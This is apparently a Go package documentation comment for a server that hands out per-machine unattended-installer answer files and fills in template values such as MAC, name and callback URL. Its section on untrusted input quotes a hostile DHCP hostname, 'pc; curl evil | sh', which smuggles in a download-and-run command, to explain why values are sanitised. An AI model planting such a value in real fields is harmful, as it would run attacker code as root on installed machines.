// Package seed answers: what does the unattended installer of this machine read?
//
// A directory holds answer files under the names that installers know: preseed.cfg, ks.cfg, user-data and
// meta-data, answerfile.xml, autoinst.xml, machine.apkovl.tar.gz. A directory in it that is called as a machine is
// (by MAC address, by name, by UUID) has that machine's own, which go first, file by file.
//
// # Templates
//
// Text files are templates (text/template) of a few names:
//
//	{{mac}}       52:54:00:12:34:56
//	{{uuid}}      4c4c4544-0043-..., "" where the machine did not tell one
//	{{name}}      what its DHCP client calls it, else its MAC address with dashes
//	{{ip}}        192.168.9.100
//	{{server}}    192.168.9.2, with :PORT where HTTP is not on port 80
//	{{base}}      http://192.168.9.2/xcp-ng/, the tree it installs from
//	{{callback}}  http://192.168.9.2/seed/52-54-00-12-34-56/done, to be asked for when it has finished
//
// Nothing else stands between the braces but what text/template has itself, as in {{if eq mac "52:54:00:12:34:56"}};
// two braces that mean themselves are {{"{{"}}. A file that begins with `## template: jinja`, cloud-init's own, and
// what is no text is given as it is.
//
// # A name is chosen by whoever owns the machine
//
// Answer files run as root, and a DHCP client may call itself `pc; curl evil | sh`. So what a template puts in has
// only letters, digits and - . : / in it (a URL % + ~ _ [ ] too), whatever the client said: it means nothing to a shell, to XML, JSON and
// TOML, nor in a preseed or kickstart line. In YAML a value that is a whole scalar, as in
// `hostname: {{name}}`, gets quotes, since a machine may be called no, or 1e3; elsewhere quotes are yours to write.
//
// # Limitations
//
// Whoever can reach the HTTP server can ask for the files of any machine: what is secret in them is as secret
// as your network.
package seed
